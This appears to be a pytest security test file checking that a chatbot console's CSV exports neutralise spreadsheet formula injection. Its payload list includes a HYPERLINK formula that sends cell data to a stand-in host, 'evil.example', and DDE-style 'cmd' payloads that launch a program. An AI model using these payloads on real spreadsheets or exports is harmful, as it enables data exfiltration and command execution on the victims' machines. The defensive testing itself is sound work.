"""Spreadsheet formula injection: no cell of an operator's CSV export can run as a formula when
opened in Excel, LibreOffice or Google Sheets (OWASP's CSV injection advice), whatever a
customer typed; plain numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re

import pytest

from bot.nlu.review_inbox import ReviewInbox
from bot.web.spreadsheet import csv_bytes, safe_cell
from tests.conftest import website
from tests.security.test_operator_exposure import console_as

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1", "\u200b@SUM(A1)", "\n-1+1",
            "=1+1 我要退款"]
FORMULA = re.compile(r"[\s\u200b-\u200d\u2060\ufeff]*[=+\-@\t\r]")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["12", "-3.5", "45.0%", "—", "2026-12-01", "退款 = 已付 - 已用", "c1001", ""])
def test_ordinary_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_file_reads_back_as_text_cells():
    data = csv_bytes(["原话", "次数"], [(p, "1") for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["原话", "次数"] and [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with website("sqlite", tmp_path_factory.mktemp("csv"), {}) as running:
        yield running


def test_every_dashboard_export_escapes_what_customers_typed(site):
    url, sessions = site
    inbox = ReviewInbox(sessions)
    for payload in PAYLOADS:
        assert inbox.record(payload, "nlu_fallback", 0.1)
    operator, _ = console_as(url, "o1")
    status, page, _ = operator.request("GET", "/console/dashboard")
    keys = set(re.findall(r'href="/console/dashboard/csv/([a-z_]+)', page))
    assert status == 200 and "fallbacks" in keys and len(keys) >= 5
    for key in sorted(keys):
        status, text, headers = operator.request("GET", f"/console/dashboard/csv/{key}")
        assert status == 200 and headers["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        dangerous = [cell for cell in cells if FORMULA.match(cell) and not re.fullmatch(r"-?\d+(\.\d+)?%?", cell)]
        assert not dangerous, (key, dangerous)
        if key == "fallbacks":  # every wording there is one of the payloads (the inbox squeezes spaces)
            assert len(rows) > 5 and all(row[0].startswith("'") for row in rows[1:]), rows
